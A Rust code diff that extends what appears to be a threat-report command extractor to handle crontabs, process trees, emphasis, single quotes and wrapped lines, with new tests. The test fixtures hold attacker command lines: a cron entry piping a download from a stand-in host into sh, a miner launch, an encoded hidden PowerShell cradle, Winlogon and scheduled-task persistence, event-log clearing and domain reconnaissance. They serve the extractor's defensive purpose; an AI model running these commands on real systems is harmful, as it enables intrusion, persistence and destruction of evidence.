@@ -6,6 +6,7 @@
 
 mod shape;
 mod tools;
+mod wrap;
 
 use crate::extract::candidate::{Candidate, Text};
 use crate::extract::context::label;
@@ -21,6 +22,11 @@ const PROMPT: usize = 80;
 /// How far its prompt and its first word may reach, in bytes.
 const NEAR: usize = 512;
 
+/// What may stand before a command in a list or in a tree of processes.
+const BULLETS: [char; 12] = [
+    '•', '*', '-', '–', '+', '·', '│', '├', '└', '─', '╰', '\u{a0}',
+];
+
 /// What stands before a command.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Opening {
@@ -28,6 +34,8 @@ enum Opening {
     Cell,
     /// A quotation mark or backtick that this one closes.
     Quote(char),
+    /// A star that opens emphasis.
+    Emphasis,
     /// A colon and a space.
     Colon,
 }
@@ -48,15 +56,19 @@ pub(crate) fn scan(text: &Text<'_>, found: &mut Vec<Candidate>) {
     }
 }
 
-/// Every place at which a command may start, rising. Two searches of three bytes each run abreast:
-/// prose between the marks costs next to nothing.
+/// Every place at which a command may start, rising. Searches of a few bytes each run abreast: prose
+/// between the marks costs next to nothing.
 fn openings(bytes: &[u8]) -> impl Iterator<Item = (usize, Opening)> {
     let mut cells = memchr::memchr3_iter(b'\n', b'\t', b':', bytes).peekable();
     let mut quotes = memchr::memchr3_iter(b'"', b'`', 0x9C, bytes).peekable();
-    let marks = std::iter::from_fn(move || match (cells.peek(), quotes.peek()) {
-        (Some(cell), Some(quote)) if quote < cell => quotes.next(),
-        (Some(_), _) => cells.next(),
-        (None, _) => quotes.next(),
+    let mut stars = memchr::memchr2_iter(b'*', b'\'', bytes).peekable();
+    let marks = std::iter::from_fn(move || {
+        let next = [cells.peek(), quotes.peek(), stars.peek()];
+        let first = next.into_iter().flatten().min().copied()?;
+        cells
+            .next_if_eq(&first)
+            .or_else(|| quotes.next_if_eq(&first))
+            .or_else(|| stars.next_if_eq(&first))
     });
     let opens = |at: usize| match bytes[at] {
         b':' => (bytes.get(at + 1) == Some(&b' ')).then_some((at + 2, Opening::Colon)),
@@ -64,7 +76,12 @@ fn openings(bytes: &[u8]) -> impl Iterator<Item = (usize, Opening)> {
         0x9C => bytes[..at]
             .ends_with(&[0xE2, 0x80])
             .then_some((at + 1, Opening::Quote('”'))),
+        b'*' => Some((at + 1, Opening::Emphasis)),
         mark @ (b'"' | b'`') => Some((at + 1, Opening::Quote(char::from(mark)))),
+        b'\'' => {
+            let inside = at > 0 && bytes[at - 1].is_ascii_alphanumeric();
+            (!inside).then_some((at + 1, Opening::Quote('\'')))
+        }
         _ => Some((at + 1, Opening::Cell)),
     };
     std::iter::once((0, Opening::Cell)).chain(marks.filter_map(opens))
@@ -82,8 +99,10 @@ fn may_begin(bytes: &[u8], at: usize, opening: Opening) -> bool {
             return true;
         }
         Some(b'\n' | b'\t') | None => return false,
-        Some(b'*' | b'-' | b'+') => return opening == Opening::Cell,
-        Some(_) => return opening == Opening::Cell && has_prompt_mark(near),
+        Some(byte) => {
+            let bullet = BULLETS.contains(&char::from(*byte));
+            return opening == Opening::Cell && (bullet || has_prompt_mark(near));
+        }
     }
     // A word alone is no command.
     let end = match memchr::memchr3(b' ', b'\n', b'\t', near) {
@@ -91,9 +110,10 @@ fn may_begin(bytes: &[u8], at: usize, opening: Opening) -> bool {
         Some(_) => return false,
         None => return near.len() == NEAR - blanks,
     };
-    // A first word of letters must be a tool, where no prompt follows.
+    // A first word of letters must be a tool, where no prompt follows and no schedule begins.
     let word = &near[..end];
     !is_plain(word)
+        || opening == Opening::Cell && word.iter().all(u8::is_ascii_digit)
         || std::str::from_utf8(word).is_ok_and(|word| tools::needs(word).is_some())
         || opening == Opening::Cell && has_prompt_mark(near)
 }
@@ -124,7 +144,7 @@ fn read(
     let head = shape::head(&near[skipped..])?;
     let start = at + skipped;
     let reach = match opening {
-        Opening::Quote(_) => QUOTED,
+        Opening::Quote(_) | Opening::Emphasis => QUOTED,
         Opening::Cell | Opening::Colon => LONGEST - skipped,
     };
     let end = match *cell_end {
@@ -135,9 +155,16 @@ fn read(
     let said = opening == Opening::Cell && is_labelled(text, start);
     let line = match opening {
         Opening::Quote(mark) => &rough[..closing(rough, mark)?],
-        Opening::Cell | Opening::Colon => rough,
+        Opening::Emphasis => &rough[..closing_emphasis(rough)?],
+        // `*cmd /c dir*` on a line of its own.
+        Opening::Cell | Opening::Colon if whole[..start].ends_with('*') => {
+            &rough[..closing_emphasis(rough).unwrap_or(rough.len())]
+        }
+        Opening::Cell => rough,
+        Opening::Colon => sentence(rough),
     };
     let line = line.trim_end();
+    let fills = matches!(opening, Opening::Cell | Opening::Colon) && start + line.len() == end;
     let line = if matches!(opening, Opening::Quote(_)) || said {
         line
     } else {
@@ -158,9 +185,13 @@ fn read(
         return None;
     }
     let span = start..start + line.len();
+    let (value, span) = fills
+        .then(|| wrap::extend(text, span.clone()))
+        .flatten()
+        .unwrap_or_else(|| (line.to_owned(), span));
     Some(Candidate {
         kind: Kind::Command,
-        value: line.to_owned(),
+        value,
         span,
         defanged: false,
         confidence,
@@ -187,9 +218,10 @@ fn skip_prompt(cell: &str, opening: Opening) -> usize {
     let blank = cell.len() - cell.trim_start().len();
     let mut rest = &cell[blank..];
     if opening == Opening::Cell {
-        rest = rest
-            .trim_start_matches(['•', '*', '-', '–', '+', '·'])
-            .trim_start();
+        rest = match schedule(rest) {
+            0 => rest.trim_start_matches(|c| BULLETS.contains(&c) || c == ' '),
+            scheduled => &rest[scheduled..],
+        };
         let near = &rest[..rest.floor_char_boundary(PROMPT)];
         let is_prompt = |head: &str| {
             head.starts_with("PS ")
@@ -208,13 +240,67 @@ fn skip_prompt(cell: &str, opening: Opening) -> usize {
     cell.len() - rest.len()
 }
 
+/// Length of the schedule that opens a line of a crontab: five fields or a name, and the user.
+fn schedule(line: &str) -> usize {
+    const FIELDS: usize = 5;
+    let near = &line[..line.floor_char_boundary(PROMPT)];
+    let is_field = |word: &str| {
+        word.contains(|c: char| c.is_ascii_digit() || c == '*')
+            && word
+                .bytes()
+                .all(|byte| byte.is_ascii_digit() || matches!(byte, b'*' | b'/' | b',' | b'-'))
+    };
+    let mut at = 0;
+    let mut fields = 0;
+    for word in near.split_inclusive([' ', '\t']) {
+        let bare = word.trim_end();
+        if fields == 0 && matches!(bare, "@reboot" | "@hourly" | "@daily") {
+            fields = FIELDS;
+        } else if fields < FIELDS && is_field(bare) {
+            fields += 1;
+        } else if fields == FIELDS && bare == "root" {
+            return at + word.len();
+        } else {
+            break;
+        }
+        at += word.len();
+    }
+    if fields == FIELDS { at } else { 0 }
+}
+
+/// Where the emphasis ends that a star opened: at one that is no wildcard.
+fn closing_emphasis(rest: &str) -> Option<usize> {
+    rest.match_indices('*').map(|(at, _)| at).find(|at| {
+        let wild = rest[..*at].ends_with([' ', '\\', '/', '*', '.']);
+        let behind = rest[at + 1..].chars().next();
+        !wild && behind.is_none_or(|c| !c.is_alphanumeric() && !matches!(c, '.' | '\\' | '/'))
+    })
+}
+
 /// Where the quotation ends that `mark` closes; an escaped mark (`\"`, `""`) does not.
 fn closing(rest: &str, mark: char) -> Option<usize> {
-    rest.match_indices(mark).map(|(at, _)| at).find(|at| {
+    let end = rest.match_indices(mark).map(|(at, _)| at).find(|at| {
         let doubled =
             mark == '"' && (rest[..*at].ends_with('"') || rest[at + 1..].starts_with('"'));
         !rest[..*at].ends_with('\\') && !doubled
+    });
+    // An apostrophe inside an argument ends nothing, and what lies beyond cannot be told.
+    end.filter(|at| {
+        let behind = rest[*at..].chars().nth(1);
+        mark != '\''
+            || behind.is_none_or(|c| c.is_whitespace() || matches!(c, '.' | ',' | ';' | ')'))
     })
+}
+
+/// `line` up to the end of the first sentence, where another follows it.
+fn sentence(line: &str) -> &str {
+    let end = line.match_indices(". ").map(|(at, _)| at).find(|at| {
+        let next = line[at + 2..].split(' ').next().unwrap_or_default();
+        line[..*at].ends_with(|c: char| c.is_alphanumeric() || matches!(c, '"' | '\'' | ')'))
+            && next.starts_with(char::is_uppercase)
+            && next.chars().skip(1).all(char::is_lowercase)
+    });
+    end.map_or(line, |end| &line[..=end])
 }
 
 /// `line` without the full stop of the sentence that it closes.
@@ -281,6 +367,108 @@ mod tests {
     }
 
     #[test]
+    fn lists_trees_and_crontabs_hold_commands() {
+        assert_eq!(
+            commands("a.exe\n└── cmd.exe /c start x.bat\n    └── whoami /all"),
+            ["cmd.exe /c start x.bat", "whoami /all"]
+        );
+        assert_eq!(
+            commands("*/5 * * * * root curl -s http://a.example/x | sh\n@reboot nohup /tmp/x -d"),
+            ["curl -s http://a.example/x | sh", "nohup /tmp/x -d"]
+        );
+        assert_eq!(
+            commands("./miner -o pool.example:444 -B"),
+            ["./miner -o pool.example:444 -B"]
+        );
+        assert_eq!(
+            commands("/tmp/.x/agent -c /etc/.cfg"),
+            ["/tmp/.x/agent -c /etc/.cfg"]
+        );
+        assert_eq!(commands("/etc/passwd is read"), [""; 0]);
+    }
+
+    #[test]
+    fn emphasis_and_single_quotes_hold_commands() {
+        for text in [
+            "*cmd.exe /c del /q *.tmp*",
+            "it runs *cmd.exe /c del /q *.tmp* then",
+            "it runs **cmd.exe /c del /q *.tmp**, then",
+            "it runs 'cmd.exe /c del /q *.tmp', then",
+        ] {
+            assert_eq!(commands(text), ["cmd.exe /c del /q *.tmp"], "{text}");
+        }
+        assert_eq!(commands("'powershell -c IEX('a')'"), [""; 0]);
+    }
+
+    #[test]
+    fn a_sentence_behind_a_command_is_not_part_of_it() {
+        assert_eq!(
+            commands("He typed: wevtutil cl Security. Then he left."),
+            ["wevtutil cl Security"]
+        );
+        assert_eq!(
+            commands("Process: C:\\Windows\\WMIC.exe CommandLine: wmic os get /all"),
+            ["wmic os get /all"]
+        );
+    }
+
+    #[test]
+    fn a_command_that_a_shell_continues_is_whole() {
+        for (text, command) in [
+            (
+                "schtasks /create /tn \"Upd\" /tr ^\n  \"C:\\a.exe -k\" /ru SYSTEM",
+                "schtasks /create /tn \"Upd\" /tr \"C:\\a.exe -k\" /ru SYSTEM",
+            ),
+            (
+                "curl -sk https://192.0.2.1/x \\\n  -H \"A: b\" \\\n  -o /var/tmp/.x\nnext",
+                "curl -sk https://192.0.2.1/x -H \"A: b\" -o /var/tmp/.x",
+            ),
+            (
+                "Get-ChildItem C:\\ -Recurse |\n  Where-Object {$_.Length}",
+                "Get-ChildItem C:\\ -Recurse | Where-Object {$_.Length}",
+            ),
+        ] {
+            assert_eq!(commands(text), [command]);
+        }
+    }
+
+    #[test]
+    fn a_command_that_a_page_wrapped_is_whole() {
+        for (text, command) in [
+            (
+                "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0A\nTwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE\nAG8AdwBu",
+                "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBu",
+            ),
+            (
+                "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\nNT\\CurrentVersion\\Winlogon\" /v Shell /f",
+                "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v Shell /f",
+            ),
+            (
+                "schtasks.exe /create /sc minute /mo 10 /tn OneDriveUpdate /tr C:\\ProgramData\\od.exe\n/ru SYSTEM /f",
+                "schtasks.exe /create /sc minute /mo 10 /tn OneDriveUpdate /tr C:\\ProgramData\\od.exe /ru SYSTEM /f",
+            ),
+        ] {
+            assert_eq!(commands(text), [command]);
+        }
+    }
+
+    #[test]
+    fn commands_below_each_other_stay_apart() {
+        let list = "net group \"Domain Admins\" /domain\nnet group \"Domain Computer\" /domain\nwhoami /all\nnltest /domain_trusts";
+        assert_eq!(commands(list), list.lines().collect::<Vec<_>>());
+        assert_eq!(
+            commands(
+                "cmd.exe /c whoami > C:\\Windows\\Temp\\out.txt\nThis was seen on three hosts."
+            ),
+            ["cmd.exe /c whoami > C:\\Windows\\Temp\\out.txt"]
+        );
+        assert_eq!(
+            commands("ping -n 5 192.0.2.1\n- an item"),
+            ["ping -n 5 192.0.2.1"]
+        );
+    }
+
+    #[test]
     fn prose_that_names_a_tool_is_no_command() {
         for text in [
             "The actor uses powershell to download a file.",
@@ -332,6 +520,10 @@ mod tests {
             "“",
             "漢",
             "cmd /c a\n",
+            "cmd /c a^\n",
+            "*cmd /c ",
+            "'cmd /c ",
+            "* * * * * ",
         ];
         crate::extract::cases::endures(scan, &patterns);
     }
